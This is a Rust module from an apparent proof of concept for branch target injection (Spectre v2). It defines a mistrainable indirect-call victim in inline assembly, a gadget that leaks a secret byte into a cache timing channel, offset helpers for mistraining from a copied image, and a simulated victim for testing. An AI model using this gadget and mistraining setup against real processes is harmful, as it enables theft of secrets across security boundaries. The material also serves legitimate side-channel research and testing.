//! The indirect call site whose predictor entry is mistrained.
//!
//! The victim performs `call [target]`, where `target` architecturally
//! points at a harmless function. An attacker who has trained the branch
//! predictor at the same virtual address makes the CPU speculatively run
//! [`bti_gadget`] instead, which touches the channel slot selected by the
//! secret byte.

use std::rc::Rc;

use crate::channel::Channel;
use crate::timing::SimulatedCache;

/// Signature of the victim function, as called through a copied image.
pub type VictimFn = extern "C" fn(*const u8, i32) -> i32;

/// Something that performs an indirect call which can be mistrained.
pub trait Victim {
    /// Point the indirect call at its harmless architectural target.
    fn reset_target(&mut self);

    /// Address of the training pointer, flushed before every trigger so
    /// that the call resolves late.
    fn training_ptr(&self) -> *const u8;

    /// Run the indirect call with `addr` as its argument.
    fn trigger(&mut self, channel: &Channel, addr: *const u8) -> i32;
}


#[cfg(target_arch = "x86_64")]
pub use self::x86::*;

#[cfg(target_arch = "x86_64")]
mod x86 {
    use super::*;
    use core::arch::asm;
    use core::sync::atomic::{ AtomicPtr, Ordering };
    use crate::channel::STRIDE;

    /// Pointer to the slot holding the target of the indirect call.
    ///
    /// Read RIP-relative by [`bti_victim`]. In a copy of this image mapped
    /// at the same base, the same instruction reads whatever the attacker
    /// placed at this offset.
    #[no_mangle]
    pub static BTI_TARGET: AtomicPtr<usize> = AtomicPtr::new(core::ptr::null_mut());

    /// Base of the cache channel, as seen by [`bti_gadget`].
    #[no_mangle]
    pub static BTI_CHANNEL: AtomicPtr<u8> = AtomicPtr::new(core::ptr::null_mut());

    /// Mistrained target: leak `*addr` into the channel.
    #[no_mangle]
    #[inline(never)]
    pub extern "C" fn bti_gadget(addr: *const u8) -> i32 {
        let channel = BTI_CHANNEL.load(Ordering::Relaxed);
        unsafe {
            let secret = core::ptr::read_volatile(addr) as usize;
            core::ptr::read_volatile(channel.add(secret * STRIDE)) as i32
        }
    }

    /// Architectural target of the indirect call.
    #[no_mangle]
    #[inline(never)]
    pub extern "C" fn bti_safe_target(_addr: *const u8) -> i32 {
        42
    }

    /// The victim: a short delay, then `call [BTI_TARGET]` with `addr` in
    /// RDI.
    #[no_mangle]
    #[inline(never)]
    pub extern "C" fn bti_victim(addr: *const u8, input: i32) -> i32 {
        for i in 1..=29 {
            core::hint::black_box(i);
        }
        let result: i32;
        // The load must be RIP-relative and never go through the GOT, so
        // that a copy of the image at the same base reads the attacker's slot.
        // The call skips the red zone and runs on a 16-byte aligned stack.
        unsafe {
            asm!(
                "mov r12, rsp",
                "sub rsp, 128",
                "and rsp, -16",
                "mov r11, qword ptr [rip + {target}]",
                "call qword ptr [r11]",
                "mov rsp, r12",
                target = sym BTI_TARGET,
                in("rdi") addr,
                out("r12") _,
                lateout("eax") result,
                clobber_abi("C"),
            );
        }
        result ^ input
    }

    /// The in-process call site.
    ///
    /// Only one should exist at a time: the call site is wired through the
    /// [`BTI_TARGET`] and [`BTI_CHANNEL`] globals.
    pub struct CallSite {
        target: Box<usize>,
    }
    impl CallSite {
        pub fn install() -> Self {
            let mut target = Box::new(bti_safe_target as usize);
            BTI_TARGET.store(&mut *target as *mut usize, Ordering::SeqCst);
            Self { target }
        }

        /// Image-relative offsets of the gadget, the victim and the
        /// training pointer, given the base of the running image.
        pub fn offsets(image_base: usize) -> (usize, usize, usize) {
            (
                (bti_gadget as usize).wrapping_sub(image_base),
                (bti_victim as usize).wrapping_sub(image_base),
                (&BTI_TARGET as *const _ as usize).wrapping_sub(image_base),
            )
        }
    }
    impl Victim for CallSite {
        fn reset_target(&mut self) {
            unsafe {
                core::ptr::write_volatile(&mut *self.target,
                    bti_safe_target as usize);
            }
        }

        fn training_ptr(&self) -> *const u8 {
            &*self.target as *const usize as *const u8
        }

        fn trigger(&mut self, channel: &Channel, addr: *const u8) -> i32 {
            BTI_CHANNEL.store(channel.as_ptr() as *mut u8, Ordering::Relaxed);
            bti_victim(addr, 0)
        }
    }
    impl Drop for CallSite {
        fn drop(&mut self) {
            BTI_TARGET.store(core::ptr::null_mut(), Ordering::SeqCst);
        }
    }
}


/// A victim running against a [`SimulatedCache`].
///
/// When `leaks` is set, every trigger behaves as if the mistrained gadget
/// ran speculatively: the channel slot selected by `*addr` becomes
/// resident. Otherwise the trigger has no cache footprint at all, like a
/// part which is not vulnerable.
pub struct SimulatedVictim {
    cache: Rc<SimulatedCache>,
    target: usize,
    leaks: bool,
    triggers: usize,
}
impl SimulatedVictim {
    const SAFE_TARGET: usize = 0x5afe;

    pub fn new(cache: Rc<SimulatedCache>) -> Self {
        Self { cache, target: Self::SAFE_TARGET, leaks: true, triggers: 0 }
    }

    pub fn not_leaking(mut self) -> Self { self.leaks = false; self }

    pub fn triggers(&self) -> usize { self.triggers }
}
impl Victim for SimulatedVictim {
    fn reset_target(&mut self) {
        self.target = Self::SAFE_TARGET;
    }

    fn training_ptr(&self) -> *const u8 {
        &self.target as *const usize as *const u8
    }

    fn trigger(&mut self, channel: &Channel, addr: *const u8) -> i32 {
        self.triggers += 1;
        if self.leaks {
            let secret = unsafe { core::ptr::read_volatile(addr) } as usize;
            self.cache.touch(channel.slot(secret));
        }
        42
    }
}
